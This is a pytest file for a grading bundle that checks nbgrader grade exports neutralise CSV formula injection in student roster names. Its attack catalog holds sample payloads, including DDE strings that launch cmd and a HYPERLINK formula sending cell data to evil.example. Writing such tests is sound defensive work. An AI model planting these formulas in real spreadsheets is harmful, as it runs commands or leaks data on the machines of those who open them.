"""Issue 21, item 3: roster names that are spreadsheet formulas (CSV injection). The roster goes in through the
bundle's roster command, the grades come out through the real `nbgrader export` (plain, as nbgrader_config.py
configures it, and the bundle's per-item and Canvas exporters): no cell of any of them may start with
``= + - @``, a tab or CR unless it is a number; the names arrive whole, behind a quote (grading/spreadsheet.py).

CSV_ATTACKS is the catalog: roster row -> the text that must arrive neutralised.
"""
import csv
import subprocess
import sys

import pytest
from conftest import ASSIGNMENT, make_course, nbgrader

from grading.spreadsheet import safe_cell

CSV_ATTACKS = {   # id: (first_name, last_name, email)
    "ben": ("Ben", "+1+cmd|' /C calc'!A0", "ben@uni.example"),
    "eq": ("=HYPERLINK(\"http://evil.example/?\"&A1)", "Eq", "eq@uni.example"),
    "minus": ("Min", "-2+3+cmd|' /C calc'!A0", "minus@uni.example"),
    "at": ("@SUM(1+1)*cmd|' /C calc'!A0", "At", "=1+1@uni.example"),
}
EXPORTS = {   # file: extra arguments of `nbgrader export`
    "grades.csv": [],
    "grades_with_items.csv": ["--exporter=grading.plugins.lms_export.ItemCsvExport"],
    "canvas_grades.csv": ["--exporter=grading.plugins.lms_export.CanvasCsvExport"],
}
LIVE = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    course = make_course(tmp_path_factory.mktemp("csv") / "course")
    nbgrader(course, "generate_assignment", ASSIGNMENT, "--force")
    rows = ["id,first_name,last_name,email,lms_user_id"]
    out = csv.StringIO()
    w = csv.writer(out)
    for n, (sid, (first, last, email)) in enumerate(CSV_ATTACKS.items()):
        w.writerow([sid, first, last, email, 1000 + n])
    (course / "roster.csv").write_text(rows[0] + "\n" + out.getvalue())
    subprocess.run([sys.executable, "-m", "grading.cli.roster", "roster.csv", "--course", str(course)], cwd=course,
                   check=True, capture_output=True)
    files = {}
    for name, args in EXPORTS.items():
        nbgrader(course, "export", *args, "--to", name)
        with open(course / name, newline="") as f:
            files[name] = list(csv.reader(f))
    return files


def is_number(text):
    try:
        float(text)
        return True
    except ValueError:
        return False


@pytest.mark.parametrize("name", list(EXPORTS))
def test_no_cell_is_a_live_formula(exported, name):
    live = [cell for row in exported[name] for cell in row if cell.startswith(LIVE) and not is_number(cell)]
    assert not live, live


@pytest.mark.parametrize("student", list(CSV_ATTACKS))
def test_the_names_arrive_whole_behind_a_quote(exported, student):
    first, last, email = CSV_ATTACKS[student]
    for name in ("grades.csv", "grades_with_items.csv"):
        (row,) = [r for r in exported[name] if r[3] == student]
        assert row[4:7] == [safe_cell(last), safe_cell(first), safe_cell(email)], name
    canvas = [r[0] for r in exported["canvas_grades.csv"]]
    assert safe_cell(f"{last}, {first}") in canvas


def test_plain_export_keeps_nbgraders_columns(exported):
    assert exported["grades.csv"][0][:4] == ["assignment", "duedate", "timestamp", "student_id"]
    assert len({len(row) for row in exported["grades.csv"]}) == 1   # a comma in a name shifts nothing
